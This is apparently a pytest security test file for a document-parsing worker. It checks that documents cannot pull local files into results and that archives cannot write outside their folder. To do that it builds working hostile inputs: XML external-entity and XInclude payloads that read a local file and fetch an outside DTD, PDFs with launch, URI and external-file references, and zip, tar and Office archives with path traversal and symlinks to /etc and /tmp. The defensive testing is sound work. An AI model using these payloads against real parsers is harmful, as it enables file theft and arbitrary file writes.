"""Promise 21: no file that a document names is read into the result, and none is written where an archive says.

Office files, drawings and archives are not read in this version: they are refused by their content, under any name.
Forms of XFA within a PDF are not looked at. Files that name themselves plain text are text, word for word.
"""

from __future__ import annotations

import io
import stat
import tarfile
import zipfile
from collections.abc import AsyncIterator, Callable
from pathlib import Path

import pytest

from llamaparse_worker.errors import WorkerError
from llamaparse_worker.parsers.pool import ParserPool
from support import bombs
from support.pathological import file_of
from support.pipeline import document_parser, parse, parser_pool

pytestmark = pytest.mark.anyio

SECRET = "what only the worker's machine knows"


@pytest.fixture(scope="module")
async def pool() -> AsyncIterator[ParserPool]:
    async with parser_pool(1) as opened:
        yield opened


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file that the worker may read and no document."""
    path = tmp_path / "secret"
    path.write_text(SECRET)
    return path


def entity(path: Path, root: str) -> str:
    kinds = f'<!ENTITY file SYSTEM "file://{path}"><!ENTITY % outside SYSTEM "http://192.0.2.1/x.dtd"> %outside;'
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{kinds}]><{root}>&file;</{root}>'


def word_file(path: Path) -> bytes:
    return bombs.office_file(entity(path, "document"))


def drawing(path: Path) -> bytes:
    return entity(path, "svg").encode()


def included(path: Path) -> bytes:
    inclusion = f'<xi:include href="{path}" parse="text"/>'
    return f'<?xml version="1.0"?><d xmlns:xi="http://www.w3.org/2001/XInclude">{inclusion}</d>'.encode()


def xfa_form(path: Path) -> bytes:
    template = entity(path, "template").encode()
    text = b"BT /F 12 Tf 72 700 Td (A form) Tj ET"
    return file_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 6 0 R >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 595 842] >>",
            b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>",
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(template), template),
        ]
    )


def launching(path: Path) -> bytes:
    """Give a PDF that has files opened, sent and embedded by whoever opens it."""
    name = str(path).encode()
    text = b"BT /F 12 Tf 72 700 Td (Open me) Tj ET"
    resources = b"<< /Font << /F 5 0 R >> /XObject << /R 6 0 R >> >>"
    return file_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (%s) >> "
            b"/AA << /WC << /S /URI /URI (http://192.0.2.1/) >> >> >>" % name,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 595 842] >>",
            b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources %s >>" % resources,
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text) + 6, text + b"\n/R Do"),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (%s) /Page 0 >> /Length 0 >>"
            b"\nstream\n\nendstream" % name,
        ]
    )


def external_stream(path: Path) -> bytes:
    """Give a PDF whose page takes its content from another file."""
    return file_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 595 842] >>",
            b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
            b"<< /Length 0 /F (%s) >>\nstream\n\nendstream" % str(path).encode(),
        ]
    )


@pytest.mark.parametrize("name", ["document", "document.txt", "document.pdf"])
@pytest.mark.parametrize("make", [word_file, drawing, included, xfa_form, launching, external_stream])
async def test_a_file_that_a_document_names_is_in_no_result(
    pool: ParserPool, tmp_path: Path, secret: Path, make: Callable[[Path], bytes], name: str
) -> None:
    try:
        found = await parse(document_parser(pool), make(secret), tmp_path, name=name)
    except WorkerError as error:
        code, said = error.code, [error.message.encode()]
    else:
        code, said = "", list(found.files().values())

    assert code in {"", "UNSUPPORTED_FILE_TYPE", "NO_DATA_FOUND_IN_FILE", "PDF_IS_BROKEN"}
    assert said
    assert not any(SECRET.encode() in text for text in said)


def climbing_zip() -> bytes:
    return bombs.zip_of([("../../climbed", b"x"), ("/tmp/climbed", b"x"), ("..\\climbed", b"x")])


def linking_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("link")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc")
        archive.writestr("link/climbed", b"x")
    return out.getvalue()


def climbing_tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "/tmp"
        archive.addfile(link)
        archive.addfile(tarfile.TarInfo("link/climbed"))
        archive.addfile(tarfile.TarInfo("../climbed"))
    return out.getvalue()


def climbing_office_file() -> bytes:
    return bombs.office_file("<document/>", [("../../../climbed", b"x")])


@pytest.mark.parametrize("make", [climbing_zip, linking_zip, climbing_tar, climbing_office_file])
async def test_nothing_of_an_archive_is_written(pool: ParserPool, tmp_path: Path, make: Callable[[], bytes]) -> None:
    folder = tmp_path / "deeper" / "job"
    folder.mkdir(parents=True)

    with pytest.raises(WorkerError) as raised:
        await parse(document_parser(pool), make(), folder)

    assert raised.value.code == "UNSUPPORTED_FILE_TYPE"
    assert {path.name for path in tmp_path.rglob("*")} == {"deeper", "job", "document", "document.results"}
    assert not (Path("/tmp") / "climbed").exists()
